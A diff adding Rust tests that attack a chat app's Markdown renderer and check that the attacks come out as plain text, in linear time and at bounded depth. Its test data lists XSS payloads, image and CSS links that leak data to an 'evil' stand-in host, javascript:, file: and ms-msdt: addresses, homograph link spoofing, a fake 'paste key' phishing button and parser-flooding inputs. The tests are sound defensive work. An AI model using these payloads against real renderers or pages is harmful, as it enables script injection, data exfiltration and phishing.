@@ -1,0 +1,395 @@
+//! Attacks on the renderer: what they try must come out as text, in time, and without depth.
+
+use chat_core::blocks::Node;
+use chat_render::{Live, MAX_DEPTH, render};
+use std::time::{Duration, Instant};
+
+fn walk<'n>(nodes: &'n [Node], visit: &mut impl FnMut(&'n Node)) {
+    for node in nodes {
+        visit(node);
+        walk(node.children().map_or(&[], Vec::as_slice), visit);
+    }
+}
+
+fn links(nodes: &[Node]) -> Vec<&str> {
+    let mut found = Vec::new();
+    walk(nodes, &mut |node| {
+        if let Node::Link { href, .. } = node {
+            found.push(href.as_str());
+        }
+    });
+    found
+}
+
+fn shown(nodes: &[Node]) -> String {
+    let mut text = String::new();
+    walk(nodes, &mut |node| match node {
+        Node::Break | Node::Rule => text.push('\n'),
+        node => text.push_str(node.text().unwrap_or_default()),
+    });
+    text
+}
+
+fn depth(nodes: &[Node]) -> usize {
+    nodes
+        .iter()
+        .map(|node| 1 + node.children().map_or(0, |children| depth(children)))
+        .max()
+        .unwrap_or(0)
+}
+
+#[test]
+fn markup_is_shown_as_it_was_written() {
+    let cases = [
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)></svg>",
+        "<math><mtext></mtext></math>",
+        "<svg><set attributeName=href to=javascript:alert(1)></svg>",
+        "<style>@import url(https://evil/);</style>",
+        "<p style=\"background:url(https://evil/)\">x</p>",
+        "<link rel=preconnect href=https://evil/>",
+        "<link rel=dns-prefetch href=//evil/>",
+        "<link rel=stylesheet href=https://evil/>",
+        "<meta http-equiv=refresh content=\"0;url=https://evil/\">",
+        "<base href=https://evil/>",
+        "<form action=https://evil/><input></form>",
+        "<iframe srcdoc=\"<script>1</script>\"></iframe>",
+        "<object data=https://evil/></object>",
+        "<embed src=https://evil/>",
+        "<script>alert(1)</script>",
+        "</div></main><div id=send name=__proto__>",
+        "<!-- comment -->",
+        "<![CDATA[ x ]]>",
+        "<?php echo 1 ?>",
+        "<a href=\"https://evil/\">x</a>",
+        "<button>Session expired, paste key: Sign in</button>",
+    ];
+    for html in cases {
+        for text in [
+            html.to_owned(),
+            format!("before {html} after"),
+            format!("> {html}"),
+        ] {
+            let nodes = render(&text);
+            assert!(shown(&nodes).contains(html), "{text}: {nodes:?}");
+            assert_eq!(links(&nodes), [""; 0], "{text}");
+        }
+    }
+}
+
+#[test]
+fn html_keeps_its_lines() {
+    assert_eq!(
+        shown(&render("<div>\n  <b>x</b>\r\n\n<p>\ny\n</p>\n")),
+        "<div>\n  <b>x</b><p>\ny\n</p>"
+    );
+}
+
+#[test]
+fn addresses_that_are_no_web_address_are_no_links() {
+    let cases = [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "java&#9;script:alert(1)",
+        "&#106;avascript:alert(1)",
+        "&#0;javascript:alert(1)",
+        "&#32;javascript:alert(1)",
+        "<java\tscript:alert(1)>",
+        "< javascript:alert(1)>",
+        "data:text/html,x",
+        "blob:x",
+        "vbscript:x",
+        "file:///etc/passwd",
+        "\\\\\\\\host\\\\share",
+        "smb://host/x",
+        "ms-msdt:/id",
+        "calculator:",
+        "tauri://localhost/",
+        "ipc://localhost/",
+        "asset://localhost/x",
+        "gatehouse://settings?url=https://evil",
+        "//evil/x",
+        "/x",
+        "#send",
+        "",
+        "https://example.org.xn--",
+    ];
+    for address in cases {
+        for text in [
+            format!("[label]({address})"),
+            format!("![label]({address})"),
+            format!("[label][r]\n\n[r]: {address}\n"),
+        ] {
+            let nodes = render(&text);
+            assert_eq!(links(&nodes), [""; 0], "{text}");
+            assert!(shown(&nodes).contains("label"), "{text}");
+        }
+    }
+    for text in [
+        "<javascript:alert(1)>",
+        "<data:text/html,x>",
+        "<tauri://localhost>",
+    ] {
+        assert_eq!(links(&render(text)), [""; 0], "{text}");
+    }
+}
+
+#[test]
+fn addresses_are_written_back_as_their_real_host() {
+    let cases = [
+        ("[https://bank.com](https://evil.com)", "https://evil.com/"),
+        (
+            "<https://google.com@evil.com>",
+            "https://google.com@evil.com/",
+        ),
+        (
+            "[a](https://evil.com\\\\@google.com)",
+            "https://evil.com/@google.com",
+        ),
+        ("[a](https://\u{430}pple.com)", "https://xn--pple-43d.com/"),
+        ("[a](https://e.org/\u{202e}x)", "https://e.org/%E2%80%AEx"),
+        ("<someone@example.org>", "mailto:someone@example.org"),
+    ];
+    for (text, href) in cases {
+        assert_eq!(links(&render(text)), [href], "{text}");
+    }
+}
+
+#[test]
+fn a_picture_is_named_and_never_loaded() {
+    let cases = [
+        (
+            "![x](https://evil/?q=secret)",
+            "x (https://evil/?q=secret)",
+            1,
+        ),
+        ("![x][r]\n\n[r]: https://evil/", "x (https://evil/)", 1),
+        ("![](https://evil/)", "image (https://evil/)", 1),
+        (
+            "![a *b* `c` ![d](e)](https://evil/)",
+            "a b c d (https://evil/)",
+            1,
+        ),
+        (
+            "[![badge](https://evil/)](https://e.org)",
+            "badge (https://evil/)",
+            1,
+        ),
+        (
+            "![x](data:image/png;base64,AAAA)",
+            "x (data:image/png;base64,AAAA)",
+            0,
+        ),
+    ];
+    for (text, expected, count) in cases {
+        let nodes = render(text);
+        assert_eq!(shown(&nodes), expected, "{text}");
+        assert_eq!(links(&nodes).len(), count, "{text}");
+    }
+    let long = format!("![x](data:image/png;base64,{})", "A".repeat(100_000));
+    assert!(shown(&render(&long)).len() < 200);
+}
+
+#[test]
+fn code_holds_no_links_and_only_a_plain_language() {
+    for text in [
+        "`<https://e.org> [a](https://e.org)`",
+        "    <https://e.org>",
+        "```\n[a](https://e.org)\n```",
+    ] {
+        assert_eq!(links(&render(text)), [""; 0], "{text}");
+    }
+    let infos = [
+        ("js\" onclick=alert(1)", ""),
+        ("rust{1-999999999}", ""),
+        ("mermaid", "mermaid"),
+        ("html", "html"),
+    ];
+    for (info, expected) in infos {
+        let nodes = render(&format!("~~~ {info}\nx\n~~~"));
+        let text = "x".to_owned();
+        let lang = expected.to_owned();
+        assert_eq!(nodes, [Node::Code { lang, text }], "{info}");
+    }
+}
+
+#[test]
+fn no_control_character_passes() {
+    let text = "a\0b \u{1b}[31m \u{1b}]8;;https://evil\u{7}x \u{9b} `\u{0}` \r\n\r\n    \u{8}\n\n```\u{1}\n\u{2}\r\n```\n<b \u{3}>\n\n[\u{4}](https://e.org)&#1;&#x7f;&#0;";
+    let nodes = render(text);
+    let text = shown(&nodes);
+    assert!(
+        !text
+            .chars()
+            .any(|c| c.is_control() && c != '\n' && c != '\t'),
+        "{text:?}"
+    );
+    assert!(text.contains("a\u{fffd}b"));
+}
+
+#[test]
+fn odd_but_harmless_characters_stay() {
+    for text in [
+        "\u{202e}x\u{2066}y",
+        "\u{e0041}",
+        "\u{fffe}",
+        "a\u{feff}b",
+        "e\u{301}\u{301}",
+        "\u{200b}",
+    ] {
+        assert_eq!(shown(&render(text)), text);
+    }
+}
+
+/// Patterns that have made Markdown parsers quadratic or overflow their stack.
+fn floods(n: usize) -> Vec<(&'static str, String)> {
+    let lines = |f: &dyn Fn(usize) -> String| (0..n / 10).map(f).collect::<String>();
+    vec![
+        ("quotes", ">".repeat(n)),
+        ("spaced quotes", "> ".repeat(n)),
+        ("lists", "- ".repeat(n)),
+        ("numbers", "1. ".repeat(n)),
+        ("quotes and lists", "> - ".repeat(n / 2)),
+        ("half links", "[a](<b".repeat(n / 2)),
+        ("links in emphasis", "*[a](b)".repeat(n / 2)),
+        ("underscores", "_a* ".repeat(n)),
+        ("stars", "*".repeat(n)),
+        ("star words", "*a ".repeat(n)),
+        ("alternating stars", "*a **a ".repeat(n / 2)),
+        (
+            "closed emphasis",
+            format!("{}x{}", "*".repeat(n / 2), "*".repeat(n / 2)),
+        ),
+        (
+            "nested emphasis",
+            format!("{}x{}", "*a ".repeat(n / 4), " a*".repeat(n / 4)),
+        ),
+        ("open brackets", "[".repeat(n)),
+        ("close brackets", "]".repeat(n)),
+        ("images", "![".repeat(n / 2)),
+        ("footnotes", "[^\n".repeat(n / 2)),
+        ("cdata", "a <![CDATA[".repeat(n / 4)),
+        ("comments", "a <!-- ".repeat(n / 4)),
+        ("instructions", "a <? ".repeat(n / 4)),
+        ("declarations", "a <!A ".repeat(n / 4)),
+        ("tags", "a <b ".repeat(n / 4)),
+        ("attributes", format!("<a {}", "b ".repeat(n))),
+        (
+            "backticks",
+            (1..n.isqrt())
+                .flat_map(|k| ["`".repeat(k), " ".into()])
+                .collect(),
+        ),
+        ("parentheses", format!("[a]({}", "(".repeat(n))),
+        ("entities", "&".repeat(n)),
+        ("backslashes", "\\".repeat(n)),
+        (
+            "definitions",
+            format!("[x]: /{}\n{}", "y".repeat(n / 10), "[x]".repeat(n / 10)),
+        ),
+        ("many definitions", lines(&|k| format!("[x{k}]: /u\n"))),
+        ("half definitions", "[x]: ".repeat(n / 4)),
+        ("half titles", "[x]: /u \"\n".repeat(n / 10)),
+        (
+            "table",
+            format!("|a|b|\n|-|-|\n{}", "|1|2|\n".repeat(n / 5)),
+        ),
+        (
+            "narrow rows",
+            format!(
+                "{}\n{}\n{}",
+                "|a".repeat(n / 10),
+                "|-".repeat(n / 10),
+                "|\n".repeat(n / 5)
+            ),
+        ),
+        ("delimiter rows", "|-\n".repeat(n / 3)),
+        ("quoted lines", "> a\n".repeat(n / 4)),
+        (
+            "lazy lines",
+            format!("{}a\n{}", "> ".repeat(n / 10), "a\n".repeat(n / 10)),
+        ),
+        (
+            "deep list lines",
+            (0..n.isqrt())
+                .flat_map(|k| ["  ".repeat(k), "- a\n".into()])
+                .collect(),
+        ),
+        (
+            "blank lines in a list",
+            format!("- a\n{}- b", "\n".repeat(n)),
+        ),
+        ("line", "a ".repeat(n)),
+        ("breaks", "a  \n".repeat(n / 4)),
+        ("controls", "\u{1}".repeat(n)),
+        ("rules", "---\n".repeat(n / 4)),
+        ("headings", "# a\n".repeat(n / 4)),
+        ("fences", "```\n".repeat(n / 4)),
+    ]
+}
+
+/// The quicker of two runs: other programs may take the processor for a while.
+fn timed(text: &str) -> Duration {
+    let run = || {
+        let start = Instant::now();
+        drop(render(text));
+        start.elapsed()
+    };
+    run().min(run())
+}
+
+#[test]
+fn floods_cost_linear_time() {
+    let n = 100_000;
+    // Below this all is noise; a quadratic parser needs seconds at this size.
+    let floor = Duration::from_millis(200);
+    for ((name, half), (_, whole)) in floods(n / 2).iter().zip(&floods(n)) {
+        let (half, whole) = (timed(half), timed(whole));
+        assert!(
+            whole < floor + half * 7 / 2,
+            "{name}: {half:?}, doubled {whole:?}"
+        );
+    }
+}
+
+#[test]
+fn floods_have_bounded_depth_and_survive_json() {
+    for (name, text) in floods(20_000) {
+        let nodes = render(&text);
+        // Leaves hang one below the deepest node with children.
+        assert!(depth(&nodes) <= MAX_DEPTH + 1, "{name}");
+        let json = serde_json::to_string(&nodes).unwrap();
+        let read: Vec<Node> = serde_json::from_str(&json).unwrap();
+        assert_eq!(read, nodes, "{name}");
+    }
+}
+
+#[test]
+fn floods_that_grow_end_as_the_whole() {
+    for (name, text) in floods(2_000) {
+        let mut live = Live::new();
+        for (at, c) in text.char_indices() {
+            live.append(c.encode_utf8(&mut [0; 4]));
+            if at % 97 == 0 {
+                assert!(depth(live.nodes()) <= MAX_DEPTH + 1);
+            }
+        }
+        live.finish();
+        assert_eq!(live.nodes(), render(&text), "{name}");
+    }
+}
+
+#[test]
+fn what_is_nested_too_deep_is_still_there() {
+    for open in ["> ", "- ", "1. ", "> - ", "*a **b "] {
+        let text = format!("{}needle *em* end", open.repeat(200));
+        assert!(shown(&render(&text)).contains("needle"), "{open}");
+    }
+    let two = format!("{q}one\n{q}\n{q}two", q = "> ".repeat(60));
+    let nodes = render(&two);
+    let mut paragraphs = 0;
+    walk(&nodes, &mut |node| {
+        paragraphs += usize::from(matches!(node, Node::Paragraph { .. }));
+    });
+    assert_eq!(paragraphs, 2);
+}
